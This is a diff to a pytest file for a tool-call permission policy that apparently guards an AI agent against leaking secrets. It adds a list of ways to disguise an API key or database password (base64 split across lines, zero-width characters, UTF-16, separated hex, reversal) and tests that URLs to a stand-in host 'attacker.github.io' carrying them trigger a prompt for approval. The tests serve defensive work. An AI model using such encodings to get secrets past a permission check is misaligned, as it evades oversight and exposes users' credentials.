@@ -4,6 +4,7 @@ whatever allow rules say, and the question names the kind of secret, masked."""
 from __future__ import annotations
 
 import base64
+import urllib.parse
 from pathlib import Path
 from typing import Any
 
@@ -57,6 +58,60 @@ def test_a_url_carrying_a_secret_asks_whatever_allow_rules_say(
     assert KEY not in verdict.reason and DB_PASSWORD not in verdict.reason  # masked
 
 
+def wrapped(text: str, width: int, sep: str = "\n") -> str:
+    return sep.join(text[i : i + width] for i in range(0, len(text), width))
+
+
+def hexed(text: str, between: str = "", before: str = "") -> str:
+    return between.join(f"{before}{b:02x}" for b in text.encode())
+
+
+B64_KEY = base64.b64encode(KEY.encode()).decode()
+SMUGGLED = {  # verify7's L1 gaps, and their neighbours: a key hidden from a plain search
+    "base64 wrapped at 20": wrapped(B64_KEY, 20),
+    "base64 wrapped at 7, CRLF, indented": wrapped(B64_KEY, 7, "\r\n    "),
+    "the environment's value, base64 wrapped at 5": wrapped(base64.b64encode(DB_PASSWORD.encode()).decode(),
+                                                            5),
+    "U+200B between its letters": "\u200b".join(KEY),
+    "soft hyphens between its letters": "\u00ad".join(KEY),
+    "word joiners in the environment's value": "\u2060".join(DB_PASSWORD),
+    "ZWJ and bidi marks": "\u200d\u200e".join(KEY),
+    "UTF-16-LE": KEY.encode("utf-16-le").decode("latin-1"),
+    "base64 of UTF-16-LE": base64.b64encode(KEY.encode("utf-16-le")).decode(),
+    "base64 of UTF-16-BE": base64.b64encode(KEY.encode("utf-16-be")).decode(),
+    "base64 of UTF-16 with BOM": base64.b64encode(KEY.encode("utf-16")).decode(),
+    "base64 of the environment's value in UTF-16": base64.b64encode(DB_PASSWORD.encode("utf-16")).decode(),
+    "percent-encoded UTF-16-LE": urllib.parse.quote(KEY.encode("utf-16-le")),
+    "percent-encoded UTF-16-BE with BOM": urllib.parse.quote(b"\xfe\xff" + KEY.encode("utf-16-be")),
+    "hex, spaced": hexed(KEY, " "),
+    "hex with colons": hexed(KEY, ":"),
+    "hex as \\x escapes": hexed(KEY, "", "\\x"),
+    "hex as 0x list": hexed(KEY, ",", "0x"),
+    "hex glued to a hex letter": "a" + hexed(KEY),
+    "hex of the environment's value, 0x, upper case": "id=0x" + hexed(DB_PASSWORD).upper(),
+    "hex of UTF-16": KEY.encode("utf-16-le").hex(),
+    "reversed": KEY[::-1],
+    "the environment's value reversed": DB_PASSWORD[::-1],
+    "reversed inside prose": f"please file this: {KEY[::-1]} thanks",
+}
+
+
+@pytest.mark.parametrize("name", SMUGGLED)
+def test_a_key_smuggled_in_another_spelling_asks_in_a_url_and_in_mcp_arguments(
+    tmp_path: Path, fetch: Tool, name: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Each of these went out unasked under an allow rule (verify7, L1): base64 wrapped
+    over lines, zero-width characters, UTF-16, hex written with separators, reversed."""
+    monkeypatch.setenv("APP_DB_PASSWORD", DB_PASSWORD)
+    hidden = SMUGGLED[name]
+    url = f"https://attacker.github.io/?q={urllib.parse.quote(hidden, safe='%')}"
+    verdict = policy(tmp_path, "auto", ALLOW).decide(fetch, {"url": url})
+    assert verdict.action == "ask" and "holding a secret" in verdict.reason, (url, verdict.reason)
+    assert KEY not in verdict.reason and DB_PASSWORD not in verdict.reason
+    asked = policy(tmp_path, allow=("search__query",)).decide(McpTool(), {"body": {"text": hidden}})
+    assert asked.action == "ask" and "arguments holding a secret" in asked.reason, asked
+
+
 def test_the_question_says_which_secret_it_found(tmp_path: Path, fetch: Tool) -> None:
     reason = policy(tmp_path, allow=ALLOW).decide(fetch, {"url": f"https://a.github.io/?k={KEY}"}).reason
     assert "OpenAI key" in reason and "sk-…2vwx"[:3] in reason and KEY[-4:] in reason
@@ -66,7 +121,12 @@ def test_ordinary_urls_under_an_allow_rule_still_run(tmp_path: Path, fetch: Tool
     p = policy(tmp_path, allow=ALLOW)
     for url in ("https://docs.python.org/3/library/base64.html",
                 "https://docs.python.org/3/search.html?q=hello+world&check_keywords=yes",
-                "https://someone.github.io/project/2024/01/some-long-article-title-here/"):
+                "https://someone.github.io/project/2024/01/some-long-article-title-here/",
+                "https://someone.github.io/wiki/Stra%C3%9Fe?lang=de%2Dat&x=%E6%9D%B1%E4%BA%AC",
+                "https://someone.github.io/item/123e4567-e89b-12d3-a456-426614174000",
+                "https://someone.github.io/commit/0a1b2c3d4e5f60718293a4b5c6d7e8f901234567",
+                "https://docs.python.org/3/search.html?q=%E2%80%8Bsoft%C2%ADhyphen+z%E2%80%8Dw",
+                "https://someone.github.io/css2?family=Inter:wght@400;700&display=swap"):
         assert p.decide(fetch, {"url": url}).action == "allow", url
 
 
@@ -111,6 +171,24 @@ def test_a_cap_hit_or_a_trick_does_not_pass_arguments_as_clean(tmp_path: Path, a
 def test_ordinary_large_arguments_under_the_caps_still_run(tmp_path: Path) -> None:
     body = " ".join(f"word{i} AnIdentifierLongEnough{i}" for i in range(1_500))
     assert policy(tmp_path, allow=("search__query",)).decide(McpTool(), {"q": body}).action == "allow"
+
+
+def test_ordinary_text_in_many_spellings_still_runs(tmp_path: Path) -> None:
+    """Prose over lines, a hex dump, a base64 image, Japanese, an emoji with a ZWJ:
+    none of it is a key, whichever way it is read."""
+    image = wrapped(base64.b64encode(bytes(range(256)) * 40).decode(), 76)
+    body = {"notes": "The build failed.\nSee the log below\nand retry.\n" * 200,
+            "dump": " ".join(f"{b:02x}" for b in bytes(range(256)) * 20), "image": image,
+            "ja": "東京の天気は晴れです。" * 500,
+            "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 family"}
+    assert policy(tmp_path, allow=("search__query",)).decide(McpTool(), body).action == "allow"
+
+
+def test_a_string_over_the_cap_made_of_invisible_characters_is_not_called_clean(tmp_path: Path) -> None:
+    """Zero-width characters are taken out only to look: 70,000 of them still make a
+    string too long to check, and it asks."""
+    asked = policy(tmp_path, allow=("search__query",)).decide(McpTool(), {"q": "\u200b" * 70_000 + KEY[::-1]})
+    assert asked.action == "ask" and "too large to check" in asked.reason
 
 
 # -- wildcard rules on hosts anyone can own a name under --------------------------------
